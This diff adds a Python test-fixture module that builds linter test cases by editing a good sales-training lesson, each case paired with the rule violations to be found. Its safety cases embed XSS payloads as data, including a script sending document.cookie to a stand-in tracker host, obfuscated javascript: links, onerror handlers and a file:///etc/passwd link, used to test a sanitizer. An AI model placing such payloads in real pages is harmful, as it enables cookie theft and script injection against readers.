@@ -1,0 +1,803 @@
+"""The lesson rule cases: the good lesson with one mistake each, written as text edits.
+
+Every case is ``fixtures/lessons/valid/good-lesson.md`` changed by a few edits and
+the exact problems the rules must find in it, as ``(rule id, line)``; lines are
+lines of the edited file. An edit is ``(old, new)``: ``old`` occurs exactly once
+in the good lesson and is replaced by ``new`` (:func:`after` inserts, :func:`delete`
+removes). All edits of a case apply to the good lesson as it is, so their order
+does not matter. ``tests/unit/test_lesson_rules.py`` checks each case in a tiny
+course; ``tests/site/test_lesson_checks_build.py`` builds some of them.
+
+A file that is not UTF-8 is written with ``surrogateescape``: ``"\\udce9"`` in an
+edit is the single byte 0xe9.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+__all__ = [
+    "CASES",
+    "GOOD",
+    "GOOD_LESSON",
+    "NOT_IN_NAV",
+    "VALID_CASES",
+    "Case",
+    "after",
+    "apply",
+    "case_bytes",
+    "delete",
+    "lesson_bytes",
+]
+
+#: The lesson that follows every rule; every case is an edit of it.
+GOOD_LESSON = Path(__file__).resolve().parent / "fixtures" / "lessons" / "valid" / "good-lesson.md"
+GOOD = GOOD_LESSON.read_bytes().decode("utf-8")
+#: The good lesson's front matter block, both ``---`` lines included.
+FRONT_MATTER = GOOD[: GOOD.index("\n---\n") + 5]
+#: The lines between the two ``---`` lines.
+FRONT_MATTER_KEYS = FRONT_MATTER[4:-4]
+#: The ``## Try it`` section, up to the ``## Key takeaways`` heading.
+TRY_IT = GOOD[GOOD.index("## Try it\n") : GOOD.index("## Key takeaways\n")]
+
+Edit = tuple[str, str]
+
+
+def after(anchor: str, text: str) -> Edit:
+    """The edit that inserts ``text`` right after ``anchor``."""
+    return (anchor, anchor + text)
+
+
+def delete(text: str) -> Edit:
+    """The edit that removes ``text``."""
+    return (text, "")
+
+
+class Case:
+    """One case: the ``expect``-ed ``(rule id, line)`` problems and the ``edits``.
+
+    ``bom`` writes a UTF-8 byte order mark first; ``crlf`` writes ``\\r\\n`` line endings.
+    """
+
+    __slots__ = ("bom", "crlf", "edits", "expect")
+
+    def __init__(
+        self, expect: list[tuple[str, int]], *edits: Edit, bom: bool = False, crlf: bool = False
+    ) -> None:
+        self.expect, self.edits, self.bom, self.crlf = expect, edits, bom, crlf
+
+
+def apply(edits: tuple[Edit, ...] | list[Edit], text: str = GOOD) -> str:
+    """``text`` (the good lesson) with every edit applied.
+
+    Raises:
+        ValueError: An ``old`` text does not occur exactly once, or two edits overlap.
+    """
+    spans: list[tuple[int, int, str]] = []
+    for old, new in edits:
+        if not old or text.count(old) != 1:
+            raise ValueError(f"edit {old[:60]!r} occurs {text.count(old)} times, not once")
+        start = text.index(old)
+        spans.append((start, start + len(old), new))
+    spans.sort()
+    for (_, end, _), (start, _, _) in zip(spans, spans[1:], strict=False):
+        if end > start:
+            raise ValueError("two edits overlap")
+    for start, end, new in reversed(spans):
+        text = text[:start] + new + text[end:]
+    return text
+
+
+def case_bytes(case: Case) -> bytes:
+    """The file of ``case``, as bytes."""
+    text = apply(case.edits)
+    if case.crlf:
+        text = text.replace("\n", "\r\n")
+    data = text.encode("utf-8", "surrogateescape")
+    return b"\xef\xbb\xbf" + data if case.bom else data
+
+
+def lesson_bytes(name: str) -> bytes:
+    """The file of the case or valid variant called ``name`` (without ``.md``).
+
+    Raises:
+        KeyError: No case has that name.
+    """
+    return case_bytes(CASES[name] if name in CASES else VALID_CASES[name])
+
+
+TITLE = "title: Ask before you advise"
+
+#: Inputs that follow every rule: the good lesson, its neighbor in the test course,
+#: and the same lesson in other encodings and with other titles.
+VALID_CASES: dict[str, Case] = {
+    "good-lesson": Case([]),
+    "sibling": Case(
+        [],
+        (TITLE, "title: Listen before you answer"),
+        (
+            "description: A practice lesson for the test suite that meets every rule of the "
+            "lesson anatomy.",
+            "description: A second practice lesson for the test suite; links in the corpus "
+            "point to it.",
+        ),
+    ),
+    "bom": Case([], (TITLE, TITLE + " (with BOM)"), bom=True),
+    "crlf": Case([], (TITLE, TITLE + " (CRLF)"), crlf=True),
+    "bom-crlf": Case([], (TITLE, TITLE + " (BOM, CRLF)"), bom=True, crlf=True),
+    "non-ascii-title": Case([], (TITLE, 'title: "Pregunta antes de aconsejar: ¿qué necesita?"')),
+    "emoji-title": Case([], (TITLE, "title: Ask first, then help \U0001f642\U0001f91d")),
+}
+
+#: The second paragraph of prose the long cases add (once: 10 lines; 7 times: 70 lines).
+OMAR = (
+    "\n"
+    "Later that week Dana talks with Omar, a builder who buys grout and edge trim every\n"
+    "Monday. Omar mentions that his crew keeps cutting tiles too short on stairs. Dana could\n"
+    "sell him a better saw. Instead she asks how the crew measures each step, and learns\n"
+    "that they measure once at the top and assume every step is the same height. It is not.\n"
+    "Dana suggests measuring every step, and she lends Omar a simple step gauge from the\n"
+    "back room. Omar buys nothing extra that day. The next month he moves his whole tile\n"
+    "order to Pinecrest, because Dana helped him fix a problem instead of selling him a\n"
+    "tool he did not need. A question took a minute. The trust it built lasted far longer\n"
+    "than one sale, and Omar now tells other builders where to shop.\n"
+)
+
+#: case name -> what it changes and the exact problems it must produce
+CASES: dict[str, Case] = {
+    # the five "inputs that fail today" from issue 3
+    "issue1-unquoted-colon": Case(
+        [("FM003", 2)],
+        ("title: Ask before you advise", "title: Selling: the basics"),
+    ),
+    "issue2-audience-no": Case(
+        [("FM007", 8)],
+        ("audience: [sales, service]", "audience: [no, service]"),
+    ),
+    "issue3-no-front-matter": Case(
+        [("FM001", 1)],
+        (FRONT_MATTER, "Tip: open with a question\n"),
+    ),
+    "issue4-inline-code-blank": Case(
+        [("QUIZ010", 48)],
+        (
+            'A customer asks for "a stronger tile." What should you do first?',
+            (
+                'Your colleague types `df[["price"]]` into the stock sheet. What should you '
+                "ask first?"
+            ),
+        ),
+    ),
+    "issue5-not-in-nav": Case(
+        [("NAV001", 1)],
+        ("title: Ask before you advise", "title: A lesson nobody added to the navigation"),
+    ),
+    # front matter
+    "fm-unclosed": Case(
+        [("FM002", 1)],
+        ("audience: [sales, service]\n---\n", "audience: [sales, service]\n"),
+    ),
+    "fm-not-a-mapping": Case(
+        [("FM004", 2)],
+        (FRONT_MATTER_KEYS, "- title\n- description\n"),
+    ),
+    "fm-unknown-key": Case(
+        [("FM005", 9)],
+        after("audience: [sales, service]\n", "level: beginner\n"),
+    ),
+    "fm-unknown-key-typo": Case(
+        [("FM005", 8)],
+        ("audience: [sales, service]", "audiance: [sales, service]"),  # codespell:ignore
+    ),
+    "fm-missing-title": Case(
+        [("FM006", 1)],
+        delete("title: Ask before you advise\n"),
+    ),
+    "fm-title-yes": Case(
+        [("FM007", 2)],
+        ("title: Ask before you advise", "title: yes"),
+    ),
+    "fm-title-date": Case(
+        [("FM007", 2)],
+        ("title: Ask before you advise", "title: 2024-05-01"),
+    ),
+    "fm-title-number": Case(
+        [("FM007", 2)],
+        ("title: Ask before you advise", "title: 1.10"),
+    ),
+    "fm-title-short": Case(
+        [("FM008", 2)],
+        ("title: Ask before you advise", "title: Ask"),
+    ),
+    "fm-description-long": Case(
+        [("FM009", 3)],
+        (
+            (
+                "description: A practice lesson for the test suite that meets every rule of "
+                "the lesson anatomy."
+            ),
+            (
+                "description: This description keeps going well past the point where a lesson "
+                "card or a search result can show it, so readers would only ever see the first "
+                "part of it, and the rest of the words would be cut off."
+            ),
+        ),
+    ),
+    "fm-duration-text": Case(
+        [("FM010", 4)],
+        after("duration: 3", " min"),
+    ),
+    "fm-duration-range": Case(
+        [("FM011", 4)],
+        ("duration: 3", "duration: 12"),
+    ),
+    "fm-duration-too-short": Case(
+        [("FM012", 4)],
+        ("duration: 3", "duration: 2"),
+        after("crack because it was weak. It cracked because the floor under it moved.\n", OMAR),
+    ),
+    "fm-objectives-string": Case(
+        [("FM013", 5)],
+        (
+            (
+                "objectives:\n"
+                "  - Ask one open question before you suggest a product\n"
+                "  - Notice when a suggestion comes too early\n"
+            ),
+            "objectives: Ask questions first\n",
+        ),
+    ),
+    "fm-objectives-too-many": Case(
+        [("FM013", 5)],
+        after(
+            "  - Notice when a suggestion comes too early\n",
+            "  - Wait for the whole answer\n  - Offer one idea, not five\n",
+        ),
+    ),
+    "fm-objectives-empty-item": Case(
+        [("FM013", 7)],
+        ("  - Notice when a suggestion comes too early", '  - ""'),
+    ),
+    "fm-objective-unquoted-colon": Case(
+        [("FM007", 6)],
+        (
+            "  - Ask one open question before you suggest a product",
+            "  - Ask one open question: then suggest a product",
+        ),
+    ),
+    "fm-audience-unknown": Case(
+        [("FM014", 8)],
+        ("audience: [sales, service]", "audience: [sales, marketing]"),
+    ),
+    "fm-former-ids-bad": Case(
+        [("FM015", 9)],
+        after("audience: [sales, service]\n", "former_ids: [Old Lesson]\n"),
+    ),
+    "fm-duplicate-key": Case(
+        [("FM016", 9)],
+        after("audience: [sales, service]\n", "duration: 4\n"),
+    ),
+    # headings
+    "head-h1": Case(
+        [("HEAD001", 11)],
+        after("audience: [sales, service]\n---\n", "\n# Ask before you advise\n"),
+    ),
+    "head-skip": Case(
+        [("HEAD002", 29)],
+        (
+            "### What a good first question sounds like",
+            "#### What a good first question sounds like",
+        ),
+    ),
+    "head-empty": Case(
+        [("HEAD003", 22)],
+        after(
+            "crack because it was weak. It cracked because the floor under it moved.\n", "\n##\n"
+        ),
+    ),
+    "head-duplicate": Case(
+        [("HEAD004", 29)],
+        ("### What a good first question sounds like", "### Why the question comes first"),
+    ),
+    # prose and closing sections
+    "body-too-short": Case(
+        [("BODY001", 11)],
+        delete(
+            "She does not do that. She asks where the tile is going, who walks on that "
+            "floor, and\n"
+            "what went wrong with the old one. The customer explains that the tile sits by "
+            "the back\n"
+            "door, where her two dogs come in from the garden with wet paws. The old tile "
+            "did not\n"
+            "crack because it was weak. It cracked because the floor under it moved.\n"
+            "\n"
+        ),
+        delete(
+            "\n"
+            "A suggestion made before you understand the problem is a guess. Even a good "
+            "guess tells\n"
+            "the customer that you care more about closing the sale than about their floor. A\n"
+            "question tells them the opposite. It also gives you the facts you need to "
+            "help, and it\n"
+            "often saves both of you from an expensive mistake.\n"
+        ),
+    ),
+    "body-too-long": Case(
+        [("BODY002", 11)],
+        ("duration: 3", "duration: 10"),
+        after(
+            "crack because it was weak. It cracked because the floor under it moved.\n", OMAR * 7
+        ),
+    ),
+    "body-closing-order": Case(
+        [("BODY003", 35)],
+        delete(TRY_IT),  # ... and back in after "Key takeaways"
+        after(
+            "- Open questions give you the facts that make your help useful.\n", "\n" + TRY_IT[:-1]
+        ),
+    ),
+    "body-missing-try-it": Case(
+        [("BODY003", 22)],
+        delete(TRY_IT),
+    ),
+    "body-takeaways-one": Case(
+        [("BODY004", 40)],
+        delete("- Open questions give you the facts that make your help useful.\n"),
+    ),
+    "body-takeaways-paragraph": Case(
+        [("BODY004", 45)],
+        after(
+            "- Open questions give you the facts that make your help useful.\n\n",
+            "Keep these two points in mind on your next shift.\n\n",
+        ),
+    ),
+    # quizzes
+    "quiz-outside-check": Case(
+        [("QUIZ001", 40)],
+        after(
+            "Then she waits for the whole story.\n",
+            (
+                "<quiz>\n"
+                'A customer asks for "a stronger tile." What should you do first?\n'
+                "- [x] Ask where the tile goes and what happened to the old one\n"
+                "> The answer tells you what the customer actually needs.\n"
+                "- [ ] Point to the most durable tile and name its price\n"
+                "> That is a guess; it can sell the wrong product.\n"
+                "</quiz>\n"
+                "\n"
+            ),
+        ),
+    ),
+    "quiz-count-one": Case(
+        [("QUIZ002", 45)],
+        delete(
+            "\n"
+            "<quiz>\n"
+            "Why does an open question work better than a yes-or-no question here?\n"
+            "- [ ] It makes the conversation shorter\n"
+            "> Open questions usually make it longer, and that is fine.\n"
+            "- [x] The customer answers in their own words and shows what matters\n"
+            "> Their words tell you how to help.\n"
+            "</quiz>\n"
+        ),
+    ),
+    "quiz-unclosed": Case(
+        [("QUIZ002", 45), ("QUIZ003", 47)],
+        (
+            "> That is a guess; it can sell the wrong product.\n</quiz>\n",
+            "> That is a guess; it can sell the wrong product.\n",
+        ),
+    ),
+    "quiz-one-option": Case(
+        [("QUIZ004", 47), ("QUIZ005", 47)],
+        delete(
+            "- [ ] Point to the most durable tile and name its price\n"
+            "> That is a guess; it can sell the wrong product.\n"
+        ),
+    ),
+    "quiz-no-correct": Case(
+        [("QUIZ005", 47)],
+        (
+            "- [x] Ask where the tile goes and what happened to the old one",
+            "- [ ] Ask where the tile goes and what happened to the old one",
+        ),
+    ),
+    "quiz-duplicate-option": Case(
+        [("QUIZ006", 51)],
+        (
+            "- [ ] Point to the most durable tile and name its price",
+            "- [ ]  ask where the tile goes and what happened to the OLD one",
+        ),
+    ),
+    "quiz-missing-explanation": Case(
+        [("QUIZ007", 49)],
+        delete("> The answer tells you what the customer actually needs.\n"),
+    ),
+    "quiz-explanation-after-blank": Case(
+        [("QUIZ007", 49)],
+        after("- [x] Ask where the tile goes and what happened to the old one\n", "\n"),
+    ),
+    "quiz-no-question": Case(
+        [("QUIZ008", 47)],
+        delete('A customer asks for "a stronger tile." What should you do first?\n'),
+    ),
+    "quiz-bad-checkbox": Case(
+        [("QUIZ005", 47), ("QUIZ009", 49)],
+        (
+            "- [x] Ask where the tile goes and what happened to the old one",
+            "- [v] Ask where the tile goes and what happened to the old one",
+        ),
+    ),
+    "quiz-blank-no-explanation": Case(
+        [("QUIZ011", 55)],
+        (
+            (
+                "Why does an open question work better than a yes-or-no question here?\n"
+                "- [ ] It makes the conversation shorter\n"
+                "> Open questions usually make it longer, and that is fine.\n"
+                "- [x] The customer answers in their own words and shows what matters\n"
+                "> Their words tell you how to help.\n"
+            ),
+            "An open question lets the customer answer in their own [[words]].\n",
+        ),
+    ),
+    "quiz-no-answers": Case(
+        [("QUIZ012", 55)],
+        (
+            (
+                "Why does an open question work better than a yes-or-no question here?\n"
+                "- [ ] It makes the conversation shorter\n"
+                "> Open questions usually make it longer, and that is fine.\n"
+                "- [x] The customer answers in their own words and shows what matters\n"
+                "> Their words tell you how to help.\n"
+            ),
+            "Why does an open question work better than a yes-or-no question?\n",
+        ),
+    ),
+    "quiz-stray-close": Case(
+        [("QUIZ013", 62)],
+        after("> Their words tell you how to help.\n</quiz>\n", "</quiz>\n"),
+    ),
+    # links and images
+    "link-vague-text": Case(
+        [("LINK001", 33)],
+        after(
+            "words, and those words show you what matters to them.",
+            " Read more [here](sibling.md).",
+        ),
+    ),
+    "link-vague-text-bold": Case(
+        [("LINK001", 33)],
+        after(
+            "words, and those words show you what matters to them.",
+            " For the full list, [**click here**](sibling.md).",
+        ),
+    ),
+    "link-broken": Case(
+        [("LINK002", 33)],
+        after(
+            "words, and those words show you what matters to them.",
+            " See [the pricing lesson](pricing.md).",
+        ),
+    ),
+    "link-broken-anchor": Case(
+        [("LINK003", 33)],
+        after(
+            "words, and those words show you what matters to them.",
+            " See [the first question](#the-first-question).",
+        ),
+    ),
+    "link-image-alt": Case(
+        [("LINK004", 22)],
+        after(
+            "crack because it was weak. It cracked because the floor under it moved.\n",
+            "\n![](counter.svg)\n",
+        ),
+    ),
+    # safety
+    "safe-script": Case(
+        [("SAFE001", 22)],
+        after(
+            "crack because it was weak. It cracked because the floor under it moved.\n",
+            (
+                "\n"
+                "<script>\n"
+                "fetch('https://tracker.example/steal?c=' + document.cookie)\n"
+                "</script>\n"
+            ),
+        ),
+    ),
+    "safe-iframe": Case(
+        [("SAFE001", 22)],
+        after(
+            "crack because it was weak. It cracked because the floor under it moved.\n",
+            '\n<iframe src="https://video.example/watch"></iframe>\n',
+        ),
+    ),
+    "safe-style": Case(
+        [("SAFE001", 22)],
+        after(
+            "crack because it was weak. It cracked because the floor under it moved.\n",
+            "\n<style>body { display: none; }</style>\n",
+        ),
+    ),
+    "safe-object": Case(
+        [("SAFE001", 22)],
+        after(
+            "crack because it was weak. It cracked because the floor under it moved.\n",
+            '\n<object data="tiles.swf"></object>\n',
+        ),
+    ),
+    "safe-onclick": Case(
+        [("SAFE002", 20)],
+        (
+            "crack because it was weak. It cracked because the floor under it moved.",
+            (
+                "crack because it was weak. It cracked because the <span "
+                'onclick="steal()">floor</span> under it moved.'
+            ),
+        ),
+    ),
+    "safe-javascript-link": Case(
+        [("SAFE003", 33)],
+        after(
+            "words, and those words show you what matters to them.",
+            " Try [the tile calculator](javascript:alert(1)).",
+        ),
+    ),
+    "safe-vbscript-html": Case(
+        [("SAFE003", 33)],
+        after(
+            "words, and those words show you what matters to them.",
+            ' Try <a href="vbscript:msgbox(1)">the tile calculator</a>.',
+        ),
+    ),
+    "safe-entity-javascript-html": Case(
+        [("SAFE003", 33)],
+        after(
+            "words, and those words show you what matters to them.",
+            ' Try <a href="&#106;avascript:alert(1)">the tile calculator</a>.',
+        ),
+    ),
+    "safe-tab-javascript-link": Case(
+        [("SAFE003", 33)],
+        after(
+            "words, and those words show you what matters to them.",
+            " Try [the tile calculator](java&#9;script:alert(1)).",
+        ),
+    ),
+    "safe-data-image": Case(
+        [("SAFE003", 22)],
+        after(
+            "crack because it was weak. It cracked because the floor under it moved.\n",
+            "\n![A cracked tile by a back door](data:image/png;base64,iVBORw0KGgo=)\n",
+        ),
+    ),
+    # the course
+    "nav-duplicate-title": Case(
+        [("NAV003", 2)],
+        ("title: Ask before you advise", "title: Listen before you answer"),
+    ),
+    "nav-former-id-clash": Case(
+        [("NAV004", 9)],
+        after("audience: [sales, service]\n", "former_ids: [practice/sibling]\n"),
+    ),
+    # files
+    "file-not-utf8": Case(
+        [("FILE001", 12)],
+        # "café" in Latin-1: the byte 0xe9 is not UTF-8
+        ("homeowners and builders", "homeowners caf\udce9 and builders"),  # codespell:ignore
+    ),
+    "file-placeholder-left": Case(
+        [("FILE003", 37)],
+        after("## Try it\n\n", "TODO: write the exercise. "),
+    ),
+    # content
+    "content-dense-prose": Case(
+        [("CONTENT001", 11)],  # reading ease 30.4
+        (
+            "She does not do that. She asks where the tile is going, who walks on that floor, and\n"
+            "what went wrong with the old one. The customer explains that the tile "
+            "sits by the back\n"
+            "door, where her two dogs come in from the garden with wet paws. The old tile did not\n"
+            "crack because it was weak. It cracked because the floor under it moved.\n",
+            "Deliberately, she postpones recommendations, investigating the "
+            "installation location,\n"
+            "the anticipated pedestrian circulation and the deterioration "
+            "mechanism. Consequently the\n"
+            "customer elaborates: the installation adjoins an exterior entrance "
+            "where domesticated\n"
+            "animals habitually enter; the deterioration originated in structural "
+            "subfloor instability.\n",
+        ),
+        (
+            "A suggestion made before you understand the problem is a guess. Even "
+            "a good guess tells\n"
+            "the customer that you care more about closing the sale than about their floor. A\n"
+            "question tells them the opposite. It also gives you the facts you "
+            "need to help, and it\n"
+            "often saves both of you from an expensive mistake.\n",
+            "A recommendation articulated prematurely, before comprehensive understanding of the\n"
+            "customer's circumstances, constitutes speculation; even accurate "
+            "speculation communicates\n"
+            "institutional prioritization of transactional completion over "
+            "individualized requirements,\n"
+            "whereas interrogative engagement communicates the contrary "
+            "organizational orientation.\n",
+        ),
+    ),
+    "content-no-worked-example": Case(
+        [("CONTENT002", 35)],
+        delete(
+            '??? example "A worked answer: what Dana asks"\n'
+            '    "Before I show you anything, what happened to the old tile?" '
+            "Then she waits for the whole story.\n"
+        ),
+    ),
+}
+
+#: Cases that are written to the test course but not listed in its nav.
+NOT_IN_NAV = {"issue5-not-in-nav"}
+
+
+# -- the gate of issue 13: markup, HTML and URL allowlists, quiz syntax, Markdown that
+# renders unlike GitHub, remote images (one change each; tests/unit/test_gate.py has
+# the cases that need other files) ---------------------------------------------------
+
+PARAGRAPH = "A suggestion made before you understand the problem is a guess."  # line 24
+
+CASES.update(
+    {
+        "title-script": Case(
+            [("FM017", 2)],
+            ("title: Ask before you advise", 'title: "Ask <script>alert(1)</script> first"'),
+        ),
+        "title-img-onerror": Case(
+            [("FM017", 2)],
+            ("title: Ask before you advise", "title: Ask <img src=x onerror=alert(1)> first"),
+        ),
+        "title-entity": Case(
+            [("FM017", 2)], ("title: Ask before you advise", "title: Ask &amp; advise")
+        ),
+        "title-link": Case(
+            [("FM017", 2)],
+            ("title: Ask before you advise", "title: Ask [first](https://x.example)"),
+        ),
+        "title-emphasis": Case(
+            [("FM017", 2)], ("title: Ask before you advise", "title: Ask **before** you advise")
+        ),
+        "description-code": Case(
+            [("FM017", 3)], ("description: A practice lesson", "description: A `practice` lesson")
+        ),
+        "meta-refresh": Case(
+            [("SAFE001", 24)],
+            (PARAGRAPH, '<meta http-equiv="refresh" content="0;url=https://x.example">'),
+        ),
+        "base-href": Case([("SAFE001", 24)], (PARAGRAPH, '<base href="https://x.example/">')),
+        "link-stylesheet": Case(
+            [("SAFE001", 24)], (PARAGRAPH, '<link rel="stylesheet" href="https://x.example/a.css">')
+        ),
+        "svg-animate": Case(
+            [("SAFE001", 24), ("SAFE001", 24)],
+            (PARAGRAPH, '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>'),
+        ),
+        "style-overlay": Case(
+            [("SAFE004", 24)], (PARAGRAPH, '<div style="position:fixed;inset:0">Win a prize</div>')
+        ),
+        "target-blank": Case(
+            [("SAFE004", 24)],
+            (PARAGRAPH, '<a href="https://x.example" target="_blank">the shop</a>'),
+        ),
+        "attr-list-onclick": Case(
+            [("SAFE002", 24)], (PARAGRAPH, 'Read [the guide](../index.md){ onclick="alert(1)" }.')
+        ),
+        "attr-list-style": Case(
+            [("SAFE004", 25)], (PARAGRAPH, 'A quiet paragraph.\n{: style="display:none" }')
+        ),
+        "attr-list-href": Case(
+            [("SAFE003", 24)],
+            (PARAGRAPH, 'Read [the guide](../index.md){ href="javascript:alert(1)" }.'),
+        ),
+        "file-scheme": Case(
+            [("SAFE003", 24)], (PARAGRAPH, "Read [the old notes](file:///etc/passwd).")
+        ),
+        "ftp-image": Case([("SAFE003", 24)], (PARAGRAPH, "![A tile](ftp://x.example/tile.png)")),
+        "old-quiz-syntax": Case(
+            [("QUIZ014", 24), ("QUIZ014", 24)],
+            (PARAGRAPH, "Old lessons used <?quiz?> and <?/quiz?> tags."),
+        ),
+        "old-quiz-syntax-in-code": Case(
+            [("QUIZ014", 24)], (PARAGRAPH, "Old lessons used `<?quiz?>` tags.")
+        ),
+        "quiz-tag-case": Case(
+            [("QUIZ002", 45), ("QUIZ013", 61), ("QUIZ015", 55)],
+            ("<quiz>\nWhy does", "<Quiz>\nWhy does"),
+        ),
+        "stray-line-between-options": Case(
+            [("QUIZ016", 53)],
+            (
+                "> That is a guess; it can sell the wrong product.\n",
+                (
+                    "> That is a guess; it can sell the wrong product.\nSee the price list.\n"
+                    "- [ ] Ask for a photo of the floor\n"
+                    "> A photo helps, but a question comes first.\n"
+                ),
+            ),
+        ),
+        "list-paragraph-2-spaces": Case(
+            [("BODY005", 26)],
+            (PARAGRAPH, "1. Ask one question.\n\n  Then listen to the answer.\n2. Offer one idea."),
+        ),
+        "list-fence-3-spaces": Case(
+            [("BODY005", 26)],
+            (
+                PARAGRAPH,
+                "1. Ask one question:\n\n   ```text\n   What happened?\n   ```\n2. Listen.",
+            ),
+        ),
+        "box-body-flush": Case(
+            [("BODY006", 26)],
+            (PARAGRAPH, '??? example "A worked answer"\n\nThe answer shows openly.'),
+        ),
+        "box-body-2-spaces": Case(
+            [("BODY006", 26)],
+            (PARAGRAPH, '??? example "A worked answer"\n\n  The answer shows openly.'),
+        ),
+        "box-title-unquoted": Case(
+            [("BODY007", 24)],
+            (PARAGRAPH, "??? example Worked answer\n\n    The answer, in the box."),
+        ),
+        "task-list": Case([("BODY008", 24)], (PARAGRAPH, "- [ ] Ask one open question first")),
+        "placeholder-tbd": Case([("FILE003", 24)], (PARAGRAPH, "TBD: a second example.")),
+        "placeholder-todo-brackets": Case(
+            [("FILE003", 24)], (PARAGRAPH, "A second example [todo].")
+        ),
+        "placeholder-fixme": Case([("FILE003", 24)], (PARAGRAPH, "FIXME this example.")),
+        "remote-image": Case(
+            [("LINK005", 24)], (PARAGRAPH, "![A tile](https://x.example/tile.png)")
+        ),
+        "remote-img-tag": Case(
+            [("LINK005", 24)], (PARAGRAPH, '<img src="//x.example/tile.png" alt="A tile">')
+        ),
+    }
+)
+
+VALID_CASES.update(
+    {
+        "details-summary": Case(
+            [], (PARAGRAPH, "<details><summary>Why</summary>Because.</details>")
+        ),
+        "kbd-abbr-br": Case(
+            [],
+            (PARAGRAPH, 'Press <kbd>Enter</kbd>, then <abbr title="point of sale">POS</abbr>.<br>'),
+        ),
+        "span-class": Case([], (PARAGRAPH, '<span class="note">A short note.</span>')),
+        "img-alt": Case([], (PARAGRAPH, '<img src="counter.svg" alt="A shop counter">')),
+        "https-and-mailto": Case(
+            [],
+            (
+                PARAGRAPH,
+                "Write to [the shop](mailto:shop@x.example) or read [its guide](https://x.example/guide).",
+            ),
+        ),
+        "plain-title": Case(
+            [], ("title: Ask before you advise", 'title: "Don\'t push: ask a < b question"')
+        ),
+        "list-paragraph-4-spaces": Case(
+            [],
+            (
+                PARAGRAPH,
+                "1. Ask one question.\n\n    Then listen to the answer.\n2. Offer one idea.",
+            ),
+        ),
+        "list-lazy-continuation": Case(
+            [], (PARAGRAPH, "1. Ask one question\n  and listen to the answer.\n2. Offer one idea.")
+        ),
+        "box-body-4-spaces": Case(
+            [], (PARAGRAPH, '??? example "A worked answer"\n\n    The answer, in the box.')
+        ),
+        "box-no-title": Case([], (PARAGRAPH, "!!! note\n\n    A note, in the box.")),
+        "tab-body": Case([], (PARAGRAPH, '=== "Phone"\n\n    On the phone, ask first.')),
+        "attr-list-class": Case([], (PARAGRAPH, "Read [the guide](../index.md){ .md-button }.")),
+    }
+)
